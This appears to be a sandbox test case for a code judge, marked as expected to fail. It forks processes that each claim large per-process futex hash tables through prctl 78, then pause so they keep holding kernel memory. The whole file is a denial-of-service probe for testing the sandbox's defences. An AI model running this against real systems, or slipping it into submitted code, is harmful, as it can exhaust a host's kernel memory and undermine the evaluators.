# expect: fail
# verdict: exception
# class: g
# why: tables of futexes that processes have of their own (prctl 78 since Linux 6.17): up to a gigabyte of the kernel's memory for each
import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)
given = 0


def runs(text):
    global given
    ready, done = os.pipe()
    for option in (78, 78 | 1 << 32, 78 | 1 << 63):
        for _ in range(2):
            if not os.fork():
                size = 22
                while size > 8 and libc.prctl(ctypes.c_long(option), 1, ctypes.c_ulong(1 << size), 0, 0):
                    size -= 1
                os.write(done, b"%c" % size)
                signal.pause()
            given += os.read(ready, 1) != b"\x08"
    if given:
        return solve(text)
    raise RuntimeError("no attack has worked")
